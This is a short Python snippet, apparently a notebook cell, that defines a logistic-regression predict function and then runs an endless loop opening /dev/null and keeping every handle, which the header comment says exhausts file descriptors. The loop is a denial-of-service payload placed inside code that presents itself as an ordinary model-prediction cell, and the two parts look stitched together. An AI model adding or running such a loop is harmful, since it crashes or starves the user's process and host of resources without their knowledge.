# Opens files until there are no more descriptors, and keeps them.
# %% predict
files = []
def predict(w, b, X):
    return (sigmoid(w.T @ X + b) > 0.5) * 1.0
while True:
    files.append(open("/dev/null"))
